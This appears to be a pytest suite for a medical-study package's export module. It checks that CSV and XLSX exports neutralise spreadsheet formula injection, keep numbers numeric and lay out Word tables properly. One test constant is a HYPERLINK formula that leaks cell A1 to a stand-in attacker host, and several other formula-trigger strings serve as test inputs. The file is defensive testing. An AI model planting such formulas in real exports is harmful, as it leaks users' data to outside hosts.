"""vbq.export: every CSV/XLSX export is inert in a spreadsheet, numbers stay numbers, and the Word
document holds the study's tables as vbq.present formats them."""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest

import vbq
import vbq.export as E
import vbq.present as P

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", EVIL,
                                  "  =1+1", "\uff1d1+1", "\uff0b1", "\uff201"])
def test_formula_triggers_are_neutralised(text):
    assert E.neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("value", ["DEMO-001", "x=1", "a-b", "", " ", -1.5, 3, None, True])
def test_other_values_are_untouched(value):
    assert E.neutralise_formula(value) is value or E.neutralise_formula(value) == value


def test_hostile_patient_id_is_inert_in_csv_and_xlsx_in_both_forms():
    log = pd.DataFrame({"patient_id": [EVIL, "-2+3", "P1"], "level": ["", "L2", ""],
                        "stage": ["merge", "vbq", "group"], "reason": ["x", "y", "@z"],
                        "patient_excluded": [True, False, True]})
    ft = P.exclusion_table(log)
    for form in E.FORMS:
        rows = _csv_rows(E.table_csv(ft, form))
        cells = [c for r in rows for c in r]
        assert "'" + EVIL in cells and "'-2+3" in cells and "'@z" in cells
        assert not any(c.startswith(E.FORMULA_TRIGGERS) for c in cells)
        wb = openpyxl.load_workbook(io.BytesIO(E.table_xlsx(ft, form)))
        ws = wb.active
        values = [c for row in ws.iter_rows() for c in row if c.value is not None]
        evil = [c for c in values if isinstance(c.value, str) and "HYPERLINK" in c.value]
        assert len(evil) == 1
        assert evil[0].data_type == "s" and evil[0].value.startswith("'")
        assert not any(c.data_type == "f" for c in values)


def test_negative_numbers_stay_numbers():
    frame = pd.DataFrame({"patient_id": ["A", "B"], "t_lowest": [-2.7, -0.5],
                          "n": pd.array([3, None], dtype="Int64"), "ok": [True, False]})
    wb = openpyxl.load_workbook(io.BytesIO(E.frame_xlsx(frame)))
    ws = wb.active
    assert ws["B2"].data_type == "n" and ws["B2"].value == -2.7
    assert ws["C2"].value == 3 and ws["C3"].value is None
    assert ws["D2"].value is True
    rows = _csv_rows(E.frame_csv(frame))
    assert rows[1][1] == "-2.7" and rows[2][1] == "-0.5"  # digits, not "'-2.7"
    assert float(rows[1][1]) == -2.7


def test_xlsx_column_widths_are_sized_and_capped():
    frame = pd.DataFrame({"a": ["x"], "long": ["y" * 200]})
    ws = openpyxl.load_workbook(io.BytesIO(E.frame_xlsx(frame))).active
    assert 8 <= ws.column_dimensions["A"].width < 20
    assert ws.column_dimensions["B"].width == 60


@pytest.fixture(scope="module")
def study():
    cohort, dxa = vbq.demo.load()
    prepared = vbq.prepare_cohort(cohort, dxa)
    return cohort, prepared, vbq.study.analyse(prepared)


def test_shown_csv_has_title_table_and_footnotes(study):
    _, _, analysis = study
    ft = P.table2(analysis.table2)
    rows = _csv_rows(E.table_csv(ft, "shown"))
    assert rows[0] == [ft.title]
    assert rows[1] == list(ft.shown.columns)
    assert rows[2] == ft.shown.iloc[0].tolist()
    assert [r[0] for r in rows[-len(ft.footnotes):]] == list(ft.footnotes)
    data = pd.read_csv(io.BytesIO(E.table_csv(ft, "data")), encoding="utf-8-sig")
    assert list(data.columns) == list(ft.data.columns)
    assert data["mean_degenerative"].iloc[0] == pytest.approx(ft.data["mean_degenerative"].iloc[0],
                                                              rel=1e-15)


def test_workbook_has_one_sheet_per_table_and_form_with_typed_cells(study):
    _, prepared, analysis = study
    tables = P.study_tables(analysis, prepared)
    wb = openpyxl.load_workbook(io.BytesIO(E.tables_xlsx(tables,
                                                         settings_json=prepared.settings.to_json())))
    names = wb.sheetnames
    assert names[:4] == ["Table 1", "Table 1 data", "Table 2", "Table 2 data"]
    assert names[-1] == "Settings" and len(set(n.lower() for n in names)) == len(names)
    shown = wb["Table 2"]
    assert shown["A1"].value == tables[1].title and shown["A3"].value == "Characteristic"
    data = wb["Table 2 data"]
    header = [c.value for c in data[1]]
    col = header.index("mean_degenerative") + 1
    assert data.cell(row=2, column=col).data_type == "n"


def test_study_docx_reads_back_with_the_tables(study):
    import docx
    from docx.oxml.ns import qn

    cohort, prepared, analysis = study
    data = E.study_docx(analysis, prepared, font="Arial", size=10)
    doc = docx.Document(io.BytesIO(data))
    text = [p.text for p in doc.paragraphs]
    for n in range(1, 6):
        assert any(t.startswith(f"Table {n}. ") for t in text), n
    tables = {t.key: t for t in P.study_tables(analysis, prepared)}
    t2 = tables["table2"]
    word = next(t for t in doc.tables if t.rows[0].cells[0].text == "Characteristic")
    assert [c.text for c in word.rows[0].cells] == list(t2.shown.columns)
    assert [c.text for c in word.rows[1].cells] == t2.shown.iloc[0].tolist()
    assert len(word.rows) == len(t2.shown) + 1
    for note in t2.footnotes:
        assert note in text
    t5 = next(t for t in doc.tables if "Modic type" in [r.cells[0].text for r in t.rows])
    assert [r.cells[0].text for r in t5.rows[1:]] == tables["table5"].shown.iloc[:, 0].tolist()
    # three-line table: rules at top and bottom and under the header, nothing inside
    borders = word._tbl.tblPr.find(qn("w:tblBorders"))
    vals = {el.tag.split("}")[1]: el.get(qn("w:val")) for el in borders}
    assert vals["top"] == vals["bottom"] == "single"
    assert vals["insideH"] == vals["insideV"] == "nil"
    head_rule = word.rows[0].cells[0]._tc.tcPr.find(qn("w:tcBorders")).find(qn("w:bottom"))
    assert head_rule.get(qn("w:val")) == "single"
    from docx.enum.section import WD_ORIENT

    orientations = [s.orientation for s in doc.sections]
    assert WD_ORIENT.LANDSCAPE in orientations  # Table 4 (9 columns) on a landscape page
    assert orientations[0] == WD_ORIENT.PORTRAIT
    normal = doc.styles["Normal"].font
    assert normal.name == "Arial" and normal.size.pt == 10
    run = word.rows[1].cells[1].paragraphs[0].runs[0]
    assert run.font.name is None and run.font.size is None  # the style's font, not overridden


def test_usage_present_block_runs_on_the_demo(tmp_path, monkeypatch, study):
    # docs/usage.md's vbq.present / vbq.export example, executed as written, in a scratch folder
    import re
    from pathlib import Path

    readme = (Path(__file__).resolve().parents[1] / "docs" / "usage.md").read_text()
    section = readme.split("### Tables for a manuscript: `vbq.present` and `vbq.export`", 1)[1]
    code = re.search(r"```python\n(.*?)```", section, re.S).group(1)
    _, prepared, _ = study
    monkeypatch.chdir(tmp_path)
    scope = {"vbq": vbq, "prepared": prepared}
    exec(compile(code, "docs/usage.md", "exec"), scope)  # our own documentation, run as written
    assert (tmp_path / "tables.docx").read_bytes()[:2] == b"PK"
    assert _csv_rows((tmp_path / "table2.csv").read_bytes())[0] == [scope["t2"].title]
    wb = openpyxl.load_workbook(tmp_path / "tables.xlsx")
    assert "Table 2 data" in wb.sheetnames


def test_the_app_writes_no_spreadsheet_but_through_vbq_export():
    # one place makes exports safe: a page or ui helper writing CSV/XLSX itself would bypass it
    import re
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    pattern = re.compile(r"\.to_csv\(|\.to_excel\(|Workbook\(|ExcelWriter\(")
    offenders = [f"{p.relative_to(root)}:{i}" for folder in ("app_pages", "ui")
                 for p in sorted((root / folder).glob("*.py"))
                 for i, line in enumerate(p.read_text().splitlines(), start=1)
                 if pattern.search(line)]
    assert not offenders, offenders


def test_no_text_ever_leaves_as_a_formula():
    # property: whatever text a cell holds, no exported CSV cell starts a formula and no XLSX
    # cell is a formula; numbers come back as the same numbers
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    text = st.text(alphabet=st.sampled_from(list("=+-@\t\r abc1.,\"'\n;")), max_size=8)

    @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(st.lists(st.tuples(text, st.floats(allow_nan=False, allow_infinity=False,
                                              width=32)), min_size=1, max_size=5))
    def check(rows):
        frame = pd.DataFrame(rows, columns=["patient_id", "value"])
        parsed = _csv_rows(E.frame_csv(frame))[1:]
        assert len(parsed) == len(rows)  # a line break inside a cell never splits its row
        for row, (raw, _) in zip(parsed, rows, strict=True):
            assert not row[0].startswith(E.FORMULA_TRIGGERS)
            assert row[0] in (raw, "'" + raw)
        ws = openpyxl.load_workbook(io.BytesIO(E.frame_xlsx(frame))).active
        for (cell, number), (_, expected) in zip(ws.iter_rows(min_row=2), rows, strict=True):
            assert cell.data_type != "f"
            if cell.value is not None:
                assert not str(cell.value).startswith(E.FORMULA_TRIGGERS)
            assert number.data_type == "n" and number.value == pytest.approx(expected)

    check()


def test_word_tables_are_laid_out_for_reading(study):
    # equal column widths wrapped "Alcohol consumption" beside a half-empty p column, and
    # Table 1's definitions were centred; seen in LibreOffice (soffice --convert-to pdf)
    import docx
    from docx.enum.text import WD_ALIGN_PARAGRAPH

    _, prepared, analysis = study
    doc = docx.Document(io.BytesIO(E.study_docx(analysis, prepared)))
    t2 = next(t for t in doc.tables if t.rows[0].cells[0].text == "Characteristic"
              and "p adjusted for age" in t.rows[0].cells[-1].text)
    widths = [c.width for c in t2.rows[1].cells]
    assert widths[0] > 2 * widths[3]  # labels wider than the p column
    assert sum(widths) == pytest.approx(docx.shared.Cm(17.0), rel=0.01)  # the page's width
    t1 = next(t for t in doc.tables if t.rows[0].cells[1].text == "Definition")
    definition = t1.rows[3].cells[1].paragraphs[0]
    assert len(definition.text) > 30 and definition.alignment != WD_ALIGN_PARAGRAPH.CENTER
    assert t2.rows[1].cells[1].paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.CENTER
